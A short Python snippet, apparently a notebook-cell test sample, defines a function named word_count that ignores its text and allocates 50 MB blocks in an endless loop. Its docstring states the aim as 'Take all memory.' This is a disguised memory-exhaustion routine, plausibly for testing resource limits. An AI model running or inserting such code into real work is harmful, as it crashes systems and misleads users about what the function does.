"""Take all memory."""
# notebook: 01_words
# cell: word_count
def word_count(text):
    hoard = []
    while True:
        hoard.append(bytearray(50_000_000))
